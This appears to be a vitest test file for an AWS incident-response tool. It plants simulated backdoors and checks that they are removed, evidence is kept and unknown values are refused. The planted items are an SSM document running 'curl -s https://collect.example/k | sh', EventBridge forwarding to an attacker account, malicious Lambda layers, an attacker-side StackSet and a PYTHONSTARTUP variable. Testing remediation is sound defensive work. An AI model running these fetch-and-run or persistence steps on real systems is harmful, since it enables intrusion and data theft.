import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  CloudFormationClient,
  CreateStackInstancesCommand,
  CreateStackSetCommand,
  DescribeStackSetCommand,
} from '@aws-sdk/client-cloudformation';
import {
  DescribeRuleCommand,
  EventBridgeClient,
  PutRuleCommand,
  PutTargetsCommand,
} from '@aws-sdk/client-eventbridge';
import { CreateRoleCommand } from '@aws-sdk/client-iam';
import {
  CreateFunctionCommand,
  GetFunctionConfigurationCommand,
  LambdaClient,
  ListLayerVersionsCommand,
  PublishLayerVersionCommand,
  UpdateFunctionConfigurationCommand,
} from '@aws-sdk/client-lambda';
import {
  CreateAssociationCommand,
  CreateDocumentCommand,
  DescribeDocumentCommand,
  ListAssociationsCommand,
  ModifyDocumentPermissionCommand,
  SSMClient,
} from '@aws-sdk/client-ssm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { zipOneFile } from '../../sim/services/lambda/zip.js';
import { runAws } from '../../sim/test-support/aws.js';
import { KINDS } from '../../eradicate/kinds.js';
import { A, caseVerifies, outcome, planAndApply, startBed, type Bed, type Run } from './test-support/bed.js';

const ATTACKER = '444455556666';
const EU = 'eu-west-1';
const AP = 'ap-southeast-2';
const DOC = JSON.stringify({
  schemaVersion: '2.2',
  description: 'disk cleanup',
  mainSteps: [
    {
      action: 'aws:runShellScript',
      name: 'clean',
      inputs: { runCommand: ['curl -s https://collect.example/k | sh'] },
    },
  ],
});
const TEMPLATE = JSON.stringify({
  Resources: { Access: { Type: 'AWS::SNS::Topic', Properties: { TopicName: 'org-baseline' } } },
});

let bed: Bed;
let run: Run;
let baselineLayer: number;
const at = { account: A };

beforeAll(async () => {
  bed = await startBed('eradicate-backdoor-kinds');
  const eb = bed.client(EventBridgeClient, EU);
  await eb.send(new PutRuleCommand({ Name: 'iam-audit-sync', EventPattern: '{"source":["aws.iam"]}' }));
  await eb.send(
    new PutTargetsCommand({
      Rule: 'iam-audit-sync',
      Targets: [
        { Id: 'sink', Arn: `arn:aws:events:${EU}:${ATTACKER}:event-bus/default` },
        { Id: 'copy', Arn: `arn:aws:events:${EU}:${ATTACKER}:event-bus/audit` },
      ],
    }),
  );
  const ssm = bed.client(SSMClient, EU);
  await ssm.send(
    new CreateDocumentCommand({ Name: 'Ops-DiskCleanup', DocumentType: 'Command', Content: DOC }),
  );
  await ssm.send(
    new ModifyDocumentPermissionCommand({
      Name: 'Ops-DiskCleanup',
      PermissionType: 'Share',
      AccountIdsToAdd: [ATTACKER],
    }),
  );
  const association = (
    await ssm.send(
      new CreateAssociationCommand({
        Name: 'Ops-DiskCleanup',
        Targets: [{ Key: 'tag:Role', Values: ['web'] }],
        ScheduleExpression: 'rate(30 minutes)',
      }),
    )
  ).AssociationDescription!.AssociationId!;
  const layers = bed.client(LambdaClient, AP);
  // A version published before the attack stays.
  baselineLayer = (
    await layers.send(
      new PublishLayerVersionCommand({
        LayerName: 'py-telemetry',
        Content: { ZipFile: zipOneFile('python/ok.py', 'x = 1\n') },
      }),
    )
  ).Version!;
  // The attack begins a minute later on the simulated clock (Lambda dates versions to the second).
  bed.sim.clock.advance(60_000);
  const attackStart = new Date(Math.floor(bed.sim.clock.nowMs() / 1000) * 1000).toISOString();
  for (const body of ['import os  # hook 1\n', 'import os  # hook 2\n'])
    await layers.send(
      new PublishLayerVersionCommand({
        LayerName: 'py-telemetry',
        Content: { ZipFile: zipOneFile('python/sitecustomize.py', body) },
      }),
    );
  const cfn = bed.client(CloudFormationClient);
  await cfn.send(new CreateStackSetCommand({ StackSetName: 'org-baseline', TemplateBody: TEMPLATE }));
  await cfn.send(
    new CreateStackInstancesCommand({
      StackSetName: 'org-baseline',
      Accounts: [ATTACKER, '777788889999'],
      Regions: ['us-east-1', EU],
    }),
  );
  const lambda = bed.client(LambdaClient);
  const role = (
    await bed.iam.send(
      new CreateRoleCommand({
        RoleName: 'api-role',
        AssumeRolePolicyDocument:
          '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"}]}',
      }),
    )
  ).Role!.Arn!;
  await lambda.send(
    new CreateFunctionCommand({
      FunctionName: 'acme-api',
      Runtime: 'python3.12',
      Role: role,
      Handler: 'index.handler',
      Code: { ZipFile: zipOneFile('index.py', 'def handler(e, c):\n    return 1\n') },
      Environment: { Variables: { APP_MODE: 'prod', DB_HOST: 'db.internal' } },
    }),
  );
  await lambda.send(
    new UpdateFunctionConfigurationCommand({
      FunctionName: 'acme-api',
      Environment: {
        Variables: { APP_MODE: 'debug', DB_HOST: 'db.internal', PYTHONSTARTUP: '/tmp/.s' },
      },
    }),
  );

  run = await planAndApply(bed, [
    { ...at, action: 'delete-event-rule', params: { region: EU, ruleName: 'iam-audit-sync' } },
    { ...at, action: 'delete-ssm-association', params: { region: EU, associationId: association } },
    { ...at, action: 'delete-ssm-document', params: { region: EU, documentName: 'Ops-DiskCleanup' } },
    {
      ...at,
      action: 'delete-layer-versions',
      params: { region: AP, layerName: 'py-telemetry', createdAfter: attackStart },
    },
    { ...at, action: 'delete-stack-set', params: { region: 'us-east-1', stackSetName: 'org-baseline' } },
    {
      ...at,
      action: 'restore-function-environment',
      params: {
        region: 'us-east-1',
        functionName: 'acme-api',
        names: 'APP_MODE,PYTHONSTARTUP',
        prior: '{"APP_MODE":"prod"}',
      },
    },
  ]);
});
afterAll(() => bed.stop());

const kept = (suffix: string) =>
  run.evidence
    .filter((p) => p.endsWith(`/${suffix}`))
    .map((p) => readFileSync(join(run.dir, 'evidence', p), 'utf8'));

describe('EventBridge, SSM, layer, StackSet and function environment actions against the simulated account', () => {
  it('applies each step after keeping its evidence, and verifies by reading the account back', async () => {
    expect(run.apply.results.map((r) => [r.step.action, r.outcome, r.verify?.ok])).toEqual([
      ['delete-event-rule', 'applied', true],
      ['delete-ssm-association', 'applied', true],
      ['delete-ssm-document', 'applied', true],
      ['delete-layer-versions', 'applied', true],
      ['delete-stack-set', 'applied', true],
      ['restore-function-environment', 'applied', true],
    ]);
    expect(await caseVerifies(run.dir)).toBe(true);
  });

  it('EventBridge: the rule and its targets kept, then the rule gone', async () => {
    expect(JSON.parse(kept('rule.json')[0]!)).toMatchObject({
      Name: 'iam-audit-sync',
      EventPattern: '{"source":["aws.iam"]}',
    });
    expect((JSON.parse(kept('targets.json')[0]!) as { Id: string }[]).map((t) => t.Id)).toEqual([
      'sink',
      'copy',
    ]);
    const eb = bed.client(EventBridgeClient, EU);
    expect(await outcome(() => eb.send(new DescribeRuleCommand({ Name: 'iam-audit-sync' })))).toBe(
      'ResourceNotFoundException',
    );
    const cli = await runAws(bed.sim, bed.responder, ['events', 'list-rules', '--output', 'json'], EU);
    expect(JSON.parse(cli.stdout)).toEqual({ Rules: [] });
  });

  it('SSM: content, description and sharing kept; the association and the document gone', async () => {
    expect(kept('content.json')).toEqual([DOC]);
    expect(JSON.parse(kept('permissions.json')[0]!)).toEqual({ sharedWith: [ATTACKER] });
    expect(JSON.parse(kept('association.json')[0]!)).toMatchObject({ Name: 'Ops-DiskCleanup' });
    const ssm = bed.client(SSMClient, EU);
    expect((await ssm.send(new ListAssociationsCommand({}))).Associations).toEqual([]);
    expect(await outcome(() => ssm.send(new DescribeDocumentCommand({ Name: 'Ops-DiskCleanup' })))).toBe(
      'InvalidDocument',
    );
  });

  it("Lambda: only the attacker's layer versions deleted, their metadata kept", async () => {
    const left = await bed
      .client(LambdaClient, AP)
      .send(new ListLayerVersionsCommand({ LayerName: 'py-telemetry' }));
    expect(left.LayerVersions?.map((v) => v.Version)).toEqual([baselineLayer]);
    expect(kept(`version-${baselineLayer + 1}.json`)).toHaveLength(1);
    expect(kept(`version-${baselineLayer + 2}.json`)).toHaveLength(1);
    expect(kept(`version-${baselineLayer}.json`)).toHaveLength(0);
  });

  it('CloudFormation: template and instances kept, every instance then the StackSet deleted', async () => {
    expect(kept('template')).toEqual([TEMPLATE]);
    expect(JSON.parse(kept('instances.json')[0]!)).toHaveLength(4);
    const cfn = bed.client(CloudFormationClient);
    expect(await outcome(() => cfn.send(new DescribeStackSetCommand({ StackSetName: 'org-baseline' })))).toBe(
      'StackSetNotFoundException',
    );
  });

  it("Lambda: the attacker's variables taken off, the others as before, the configuration kept first", async () => {
    const config = await bed
      .client(LambdaClient)
      .send(new GetFunctionConfigurationCommand({ FunctionName: 'acme-api' }));
    expect(config.Environment?.Variables).toEqual({ APP_MODE: 'prod', DB_HOST: 'db.internal' });
    const before = JSON.parse(kept('configuration.json')[0]!) as {
      Environment: { Variables: Record<string, string> };
    };
    expect(before.Environment.Variables.PYTHONSTARTUP).toBe('/tmp/.s');
    // The plan and journal carry the names, never the values.
    const journal = readFileSync(join(run.dir, 'journal.jsonl'), 'utf8');
    expect(journal).toContain('PYTHONSTARTUP');
    expect(journal).not.toContain('/tmp/.s');
  });

  it('a function whose environment before the attack is not known (CloudTrail hides the values) is refused, not guessed', async () => {
    const item = {
      kind: 'lambda-env',
      id: 'lambda-env/us-east-1/acme-api',
      name: 'acme-api',
      region: 'us-east-1',
      account: A,
      attribution: 'attacker' as const,
      eventIds: [],
      firstSeen: new Date(Date.now() + 3_600_000).toISOString(),
    };
    const requests = await KINDS['lambda-env']!.steps!(item, {
      pool: bed.pool,
      ourAccount: A,
      attackStart: null,
      items: new Map([[item.id, item]]),
      attackerEvents: new Set(),
    });
    expect(requests).toEqual([
      {
        action: 'restore-function-environment',
        account: A,
        params: { region: 'us-east-1', functionName: 'acme-api' },
      },
    ]);
    const planned = await planAndApply(bed, requests);
    expect(planned.plan.steps[0]).toMatchObject({
      noop: true,
      refused: expect.stringMatching(/not known/) as string,
    });
  });

  it('a second apply in the same case changes nothing', async () => {
    const again = await planAndApply(
      bed,
      run.plan.steps.map((s) => ({ action: s.action, account: s.account, params: s.params })),
      run.dir,
    );
    expect(again.plan.steps.map((s) => [s.action, s.noop])).toEqual(
      run.plan.steps.map((s) => [s.action, true]),
    );
    expect(again.apply.verified).toBe(true);
    // Nothing more kept: only the second plan is added to the manifest.
    expect(again.evidence.filter((p) => !p.startsWith('plans/'))).toEqual(
      run.evidence.filter((p) => !p.startsWith('plans/')),
    );
  });
});
